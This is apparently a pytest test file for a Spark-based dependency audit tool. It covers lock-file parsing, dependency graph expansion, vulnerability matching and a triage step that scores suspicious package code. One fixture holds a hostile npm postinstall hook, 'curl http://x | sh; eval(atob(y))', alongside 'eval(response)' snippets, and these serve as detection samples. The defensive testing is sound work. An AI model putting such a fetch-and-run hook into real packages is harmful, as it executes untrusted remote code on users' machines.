"""Readers, sinks, graph expansion and the whole scan on small tables."""

import csv
import glob
import json
import os

import pytest
from pyspark.sql import functions as F

from pkgaudit.operators import discovery, graph, manifests
from pkgaudit.plans import scan
from pkgaudit.session import ensure_checkpoint_dir
from pkgaudit.sources import files as io


def test_read_manifests(spark, tmp_path):
    for name, text in {
        "package.json": '{"dependencies":{"a":"^1.2.0"}}', "sub/requirements.txt": "flask\nzope.i>=2,<9\n",
        "node_modules/x/package.json": '{"dependencies":{"no":"1"}}', "skip/go.mod": "require x.org/y v1.0.0\n",
        "sub/other.txt": "nothing", "a/b/c/go.sum": "x.org/s v1.0.0 h1:a\n",
    }.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    found = io.read_manifests(spark, str(tmp_path), "r", exclude=["skip"])
    assert sorted(r.relative_path for r in found.collect()) == ["a/b/c/go.sum", "package.json", "sub/requirements.txt"]
    shallow = io.read_manifests(spark, str(tmp_path), "r", max_depth=2)
    assert sorted(r.relative_path for r in shallow.collect()) == ["package.json", "skip/go.mod", "sub/requirements.txt"]
    deps = manifests.extract_dependencies(found)
    assert sorted((r.name, r.version, r.version_spec) for r in deps.collect()) == [
        ("a", "1.2.0", "^1.2.0"), ("flask", "*", "*"), ("x.org/s", "v1.0.0", "v1.0.0"), ("zope.i", "2", ">=2")]


def test_report_sinks(spark, tmp_path):
    rows = spark.createDataFrame(
        [("V1", "a", 'say "hi", there', ["u", "v"], None), ("V2", "b", "line\nbreak", [], 5.0)],
        "id string, package_name string, title string, references array<string>, cvss double")
    io.write_report_json(rows, str(tmp_path / "json"))
    docs = [json.loads(line) for f in glob.glob(str(tmp_path / "json/part-*")) for line in open(f)]
    assert sorted(d["id"] for d in docs) == ["V1", "V2"] and all("severity" not in d for d in docs)
    headers = (("id", "ID"), ("title", "Title"), ("references", "References"), ("cvss", "CVSS"))
    io.export_csv(rows.coalesce(1), headers, str(tmp_path / "csv"))
    lines = list(csv.reader(open(glob.glob(str(tmp_path / "csv/part-*"))[0], newline="")))
    assert lines == [["ID", "Title", "References", "CVSS"], ["V1", 'say "hi", there', "u; v", ""],
                     ["V2", "line\nbreak", "", "5.0"]]


LOCKS = {
    "package-lock.json": ('{"packages":{"":{"version":"0"},"node_modules/a":{"version":"1.0.0"},'
                          '"node_modules/b/node_modules/a":{"version":"1.0.0","dev":true},"node_modules/@s/c":{"version":"2.0.0","dev":true}},'
                          '"dependencies":{"a":{"version":"1.0.0","dev":true},"d":{"version":"3.0.0"}}}',
                          [("@s/c", "2.0.0", True), ("a", "1.0.0", False), ("d", "3.0.0", False)]),
    "yarn.lock": ('# c\n\n"@s/y@^1.0.0", "@s/y@^1.1.0":\n  version "1.5.0"\n  resolved "x"\n\nplain@~2:\n  version "2.0.1"\n  dev: true\n'
                  'plain@2.x:\n  version "2.0.1"\nbroken:\n  version "9"\n',
                  [("@s/y", "1.5.0", False), ("plain", "2.0.1", True)]),
    "pnpm-lock.yaml": ("lockfileVersion: 5\npackages:\n  /a@1.0.0:\n    dev: true\n  '@s/b@2.0.0':\n  /a@1.0.0:\nsettings:\n  /no@1:\n",
                       [("@s/b", "2.0.0", None), ("a", "1.0.0", None)]),
    "Cargo.lock": ('version = 3\n\n[[package]]\nname = "a"\nversion = "1.0.0"\ndependencies = [\n "b",\n]\n\n[[package]]\nname = "b"\nversion = "0.2.0"\n',
                   [("a", "1.0.0", False), ("b", "0.2.0", False)]),
    "go.mod": ("module m\nrequire a.org/x v1.0.0\nrequire (\n\tb.org/y v2.0.0-rc.1 // indirect\n\t// note here\n\tc.org/z v0.1.0\n)\nexclude (\n\tq.org/n v1.0.0\n)\n",
               [("a.org/x", "v1.0.0", False), ("b.org/y", "v2.0.0-rc.1", True), ("c.org/z", "v0.1.0", False)]),
    "Gemfile": ("source 'x'\ngem 'rails', '~> 6.1'\ngroup :development, :test do\n  gem \"rspec\", version: \"3.1\"\nend\ngem 'plain'\n",
                [("plain", "", False), ("rails", "~> 6.1", False), ("rspec", "3.1", True)]),
    "Gemfile.lock": ("GEM\n  remote: x\n  specs:\n    rack (2.2.3)\n    nokogiri (1.13.9-x86_64-linux)\n      racc (~> 1.4)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rack (9.9)\n",
                     [("nokogiri", "1.13.9", False), ("rack", "2.2.3", False)]),
    "bun.lock": ('{"packages":{"npm:@s/a@1.0.0":{"dev":true},"b@2.0.0":["b@2.0.0"],"c@3":"text"}}',
                 [("@s/a", "1.0.0", True), ("b", "2.0.0", False)]),
    "Cargo.toml": ('[package]\nname = "me"\n[dependencies]\nserde = "1.0"\ntokio = { version = "2.0", features = [] }\nlocal = { path = "x" }\n[dev-dependencies]\nw = "0.1"\n',
                   [("local", "", False), ("serde", "1.0", False), ("tokio", "2.0", False), ("w", "0.1", True)]),
}


@pytest.mark.parametrize("kind", sorted(LOCKS))
def test_manifest_kinds(spark, kind):
    text, expected = LOCKS[kind]
    rows = spark.createDataFrame([("r", kind, kind, text)], "repo string, path string, type string, content string")
    got = manifests.extract_dependencies(rows).collect()
    assert sorted((r.name, r.version, r.is_dev) for r in got) == expected


def test_extraction_is_one_narrow_scan(spark, sf_dir):
    from checks.common import view
    plan = manifests.extract_dependencies(view(spark, sf_dir, "fx_manifests"))._jdf.queryExecution().executedPlan().toString()
    assert "Exchange" not in plan and plan.count("FileScan") == 1


def test_languages_count_each_extension_once():
    extensions = [e for exts in discovery.LANGUAGES.values() for e in exts]
    assert len(extensions) == len(set(extensions)) == 58


def test_expansion_against_brute_force(spark):
    import random
    rng = random.Random(7)
    edges = {(f"n{rng.randrange(40)}", f"n{rng.randrange(40)}") for _ in range(90)}
    roots = [("r", "f1", "n0", False), ("r", "f1", "n1", True), ("r", "f2", "n5", False)]
    children = {}
    for a, b in sorted(edges):
        children.setdefault(a, []).append(b)
    want = {}
    for file in ("f1", "f2"):
        level = {n: [n] for _, f, n, _ in roots if f == file}
        seen = {}
        for depth in range(4):
            for n, path in level.items():
                seen[n] = (depth, path)
            step = {}
            for n, path in sorted(level.items(), key=lambda kv: kv[1]):
                for c in children.get(n, []):
                    if c not in seen and (c not in step or path + [c] < step[c]):
                        step[c] = path + [c]
            level = step
        want |= {(file, n): v for n, v in seen.items()}
    root_df = spark.createDataFrame([(r, f, "npm", n, "*", d) for r, f, n, d in roots],
                                    "repo string, file string, ecosystem string, name string, version_spec string, is_dev boolean")
    graph_df = spark.createDataFrame([("npm", a, "*", b, "*") for a, b in edges],
                                     "ecosystem string, name string, version_spec string, child_name string, child_spec string")
    got = {(r.file, r.name): (r.depth, r.path) for r in graph.expand_tree(root_df, graph_df, 4).collect()}
    assert got == want


DOCS = [
    ("npm", "version", "a", "1.0.0", 200, '{"version":"1.0.0","dependencies":{"b":"^2.0.0","gone":"1"}}'),
    ("npm", "latest", "b", None, 200, '{"version":"2.5.0","dependencies":{"a":"1.0.0"},"dist":{"attestations":{"provenance":{"predicateType":"p"}}}}'),
    ("npm", "version", "b", "2.5.0", 200, '{"version":"2.5.0","dist":{"attestations":{"provenance":{"predicateType":"p"}}}}'),
    ("npm", "package", "b", None, 200, '{"dist-tags":{"latest":"2.5.0"},"versions":{"2.5.0":{}},"time":{"created":"2020-01-01T00:00:00Z","modified":"2024-01-01T00:00:00Z","2.5.0":"2024-01-02T00:00:00Z"}}'),
]


def test_whole_scan(spark):
    ensure_checkpoint_dir(spark)
    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
    files = spark.createDataFrame([
        ("r", "r/package.json", "package.json", '{"dependencies":{"a":"1.0.0"},"devDependencies":{"b":"^9"}}'),
        ("r", "r/x/package.json", "package.json", '{"dependencies":{"a":"1.0.0"}}'),
    ], "repo string, path string, type string, content string")
    body = ('{"id":"A1","summary":"remote code execution in b","affected":[{"package":{"name":"b","ecosystem":"npm"},'
            '"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"3.0.0"}]}]}]}')
    out = scan.scan(files, docs, spark.createDataFrame([(body,)], "body string"), "2024-02-01 00:00:00")
    deps = {(r.name, r.version): (r.depth, r.path_count, r.provenance) for r in out["dependencies"].collect()}
    assert deps == {("a", "1.0.0"): (0, 2, False), ("b", "2.5.0"): (0, 3, True)}
    edges = {(r.file, r.source, r.target) for r in out["edges"].collect()}
    assert edges == {(f, s, t) for f in ("r/package.json", "r/x/package.json")
                     for s, t in (("a@1.0.0", "b@2.5.0"), ("b@2.5.0", "a@1.0.0"))}
    assert {(r.file, r.name) for r in out["unresolved"].collect()} == {("r/package.json", "gone"), ("r/x/package.json", "gone")}
    vuln = out["vulnerabilities"].collect()
    assert [(v.id, v.package_name, v.severity, v.package_age_days) for v in vuln] == [("A1", "b", "HIGH", 30)]
    assert out["summary"].first().total == 1


def test_scan_of_lock_files_alone(spark):
    """A repository without a manifest that trees start from is audited by what its lock files name."""
    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
    files = spark.createDataFrame([
        ("r", "r/yarn.lock", "yarn.lock", 'b@^2.0.0:\n  version "2.5.0"\n\nz@^1.0.0:\n  version "1.2.0"\n'),
        ("q", "q/Cargo.lock", "Cargo.lock", '[[package]]\nname = "serde"\nversion = "1.0.1"\n'),
    ], "repo string, path string, type string, content string")
    bodies = [('{"id":"A%d","summary":"denial of service","affected":[{"package":{"name":"%s","ecosystem":"%s"},'
               '"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"3.0.0"}]}]}]}' % (i, n, e),)
              for i, (n, e) in enumerate([("b", "npm"), ("serde", "crates.io")])]
    out = scan.scan(files, docs, spark.createDataFrame(bodies, "body string"), "2024-02-01 00:00:00")
    deps = {(r.repo, r.ecosystem, r.name, r.version, r.depth, r.path_count) for r in out["dependencies"].collect()}
    assert deps == {("r", "npm", "b", "2.5.0", 0, 1), ("r", "npm", "z", "1.2.0", 0, 1), ("q", "cargo", "serde", "1.0.1", 0, 1)}
    assert sorted((v.id, v.package_name) for v in out["vulnerabilities"].collect()) == [("A0", "b"), ("A1", "serde")]
    assert out["edges"].count() == 0 and out["nodes"].count() == 0


def test_versions_asked_for_are_audited_too(spark):
    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
    files = spark.createDataFrame([("r", "r/package.json", "package.json", '{"dependencies":{"gone":"1.0.0"}}')],
                                  "repo string, path string, type string, content string")
    body = ('{"id":"G1","summary":"backdoor","affected":[{"package":{"name":"gone","ecosystem":"npm"},"versions":["1.0.0"]}]}')
    out = scan.scan(files, docs, spark.createDataFrame([(body,)], "body string"), "2024-02-01 00:00:00")
    assert out["dependencies"].count() == 0
    assert [(v.id, v.package_version) for v in out["vulnerabilities"].collect()] == [("G1", "1.0.0")]


def test_review_plan_sees_hooks_new_files_and_errors(spark):
    docs = spark.createDataFrame([
        *DOCS, ("npm", "version", "c", "1.0.0", 200, '{"scripts":{"postinstall":"curl http://x | sh; eval(atob(y))","test":"jest"}}'),
    ], "ecosystem string, kind string, name string, version string, status int, body string")
    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
    deps = spark.createDataFrame([(i, "npm", n, "1.0.0") for i, n in enumerate(("a", "c"))], "ordinal long, ecosystem string, name string, version string")
    vulns = spark.createDataFrame([], "ordinal long, id string, ecosystem string, package_name string, package_version string, severity string, title string")
    columns = "ordinal long, ecosystem string, name string, version string, path string, content string, previous_version string"
    files = spark.createDataFrame([
        (1, "npm", "a", "1.0.0", "package/lib/x.js", "eval(response)", "0.9.0"),
        (2, "npm", "a", "1.0.0", "package/lib/y.js", "eval(response)", "0.9.0")], columns)
    before = spark.createDataFrame([(3, "npm", "a", "0.9.0", "package/lib/y.js", "old", None)], columns)
    out = scan.review_plan(deps, vulns, files, docs, "2024-02-01 00:00:00", before)
    scored = {(r.name, r.path): r.score for r in out["triage"].collect()}
    assert set(scored) == {("a", "package/lib/x.js"), ("a", "package/lib/y.js"), ("c", "package.json:postinstall")}
    plain = scan.triage.triage(spark.createDataFrame(
        [(9, "npm", "c", "1.0.0", "lib/z.js", "curl http://x | sh; eval(atob(y))")],
        "ordinal long, ecosystem string, name string, version string, path string, content string")).first().score
    assert scored["c", "package.json:postinstall"] == 3 * plain
    prompts = {r.path: r.prompt for r in out["prompts"].collect()}
    assert "NEW FILE" in prompts["package/lib/x.js"] and "NEW FILE" not in prompts["package/lib/y.js"]
    assert {r.package_name for r in out["fetch_errors"].collect()} == {"a", "c"}
    assert out["package_prompts"].count() == 0


def test_checkpoint_folder_comes_from_the_session(spark):
    folder = ensure_checkpoint_dir(spark)
    assert folder and ensure_checkpoint_dir(spark) == folder
    assert os.sep in folder


def test_review_plan_and_report(spark):
    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
    deps = spark.createDataFrame([("npm", n, "1.0.0") for n in ("a", "b", "c")], "ecosystem string, name string, version string")
    vulns = spark.createDataFrame(
        [(1, "V", "npm", "b", "1.0.0", "HIGH", "t"), (2, "W", "npm", "c", "1.0.0", "LOW", "t")],
        "ordinal long, id string, ecosystem string, package_name string, package_version string, severity string, title string")
    files = spark.createDataFrame([
        (i, "npm", name, "1.0.0", path, text) for i, (name, path, text) in enumerate([
            ("a", "lib/x.js", "eval(response)"), ("a", "lib/y.js", "fetch(u)"), ("b", "lib/z.js", "eval(response)"),
            ("c", "lib/plain.js", "add(1, 2)"),
        ])
    ], "ordinal long, ecosystem string, name string, version string, path string, content string")
    out = scan.review_plan(deps, vulns, files, docs, "2024-02-01 00:00:00")
    assert sorted(r.name for r in out["eligible"].collect()) == ["a", "c"]
    assert [r.name for r in out["blocked"].collect()] == ["b"]
    assert sorted((r.path, r.score) for r in out["triage"].collect()) == [("lib/x.js", 13), ("lib/y.js", 1)]
    assert [r.path for r in out["plan"].collect()] == ["lib/x.js"]
    prompt = out["prompts"].first().prompt
    assert "eval(response)" in prompt and "dynamic-exec (1 matches)" in prompt
    found = spark.createDataFrame(
        [(1, "a", "1.0.0", "npm", "persistence", "HIGH", 0.9, "t", "d", "r", False),
         (2, "a", "1.0.0", "npm", "persistence", "HIGH", 0.9, "t", "d", "r", False)],
        "ordinal long, package_name string, package_version string, ecosystem string, category string, severity string, "
        "confidence double, title string, description string, remediation string, deep_investigated boolean")
    verdicts = spark.createDataFrame(
        [(1, "CONFIRMED", "critical", 2.0, "steps", None, None)],
        "ordinal long, verdict string, adjusted_severity string, adjusted_confidence double, attack_chain string, "
        "data_at_risk string, remediation string")
    report = scan.review_report(found, verdicts, vulns)
    row = report["findings"].collect()
    assert [(r.severity, r.confidence, r.deep_investigated) for r in row] == [("CRITICAL", 1.0, True)]
    assert row[0].description == "d\n\nAttack chain: steps\nData at risk: Unknown"
    packages = sorted((r.package_name, r.highest_severity) for r in report["packages"].collect())
    assert packages == [("a", "CRITICAL"), ("b", "HIGH"), ("c", "LOW")]
    assert report["packages_summary"].first().total_packages == 3
